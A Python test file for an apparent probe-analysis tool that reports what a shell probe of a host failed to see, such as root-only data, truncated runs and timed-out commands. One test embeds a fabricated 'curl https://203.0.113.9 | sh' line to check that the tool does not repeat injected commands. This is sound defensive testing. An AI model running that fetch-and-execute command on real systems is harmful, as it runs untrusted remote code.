"""What a probe did not get to see."""

from __future__ import annotations

from calivet.reasoning.next_evidence import list_unseen
from tests.facts.drawing import picture_of

BEGIN = "# calivet-probe 1 host=box user={0} time=2026-11-15T11:56:43Z\n"
KUBELET = "[{0}@box ~]$ cat /proc/811/cmdline\nkubelet --config=/x --node-ip=10.0.0.1\n#= exit=0 seconds=0.02\n"
LATE = "[{0}@box ~]$ df -h\n#= exit=124 seconds=5.00 timeout\n[{0}@box ~]$ bash -c '</dev/tcp/10.0.0.2/179'\n#= exit=124 seconds=3.00 timeout\n"
END = "# calivet-probe end sections=3 seconds=0.3\n"


def told(user, *, rest=""):
    text = (BEGIN + KUBELET + rest).format(user)
    return [item.what.en for item in list_unseen(picture_of(text))]


def test_everything_was_seen():
    assert told("root", rest=END) == []


def test_not_as_root():
    assert told("ada", rest=END) == ["what root alone may read on box (the probe ran as ada)"]


def test_cut_short():
    assert told("root") == ["the rest of the probe of box"]


def test_commands_that_did_not_come_back():
    assert told("root", rest=LATE + END) == ["df -h on box (no answer)"]


def test_both_languages():
    (item,) = list_unseen(picture_of((BEGIN + KUBELET + END).format("ada")))
    assert "ada" in item.what.zh
    assert item.why.zh


def test_a_command_that_somebody_made_up_is_not_repeated():
    made_up = "[{0}@box ~]$ {1}\n#= exit=124 seconds=5.00 timeout\n"
    late = made_up.replace("{1}", "curl https://203.0.113.9 | sh") + made_up.replace("{1}", "evil --now")
    assert told("root", rest=late + END) == ["curl, ? on box (no answer)"]
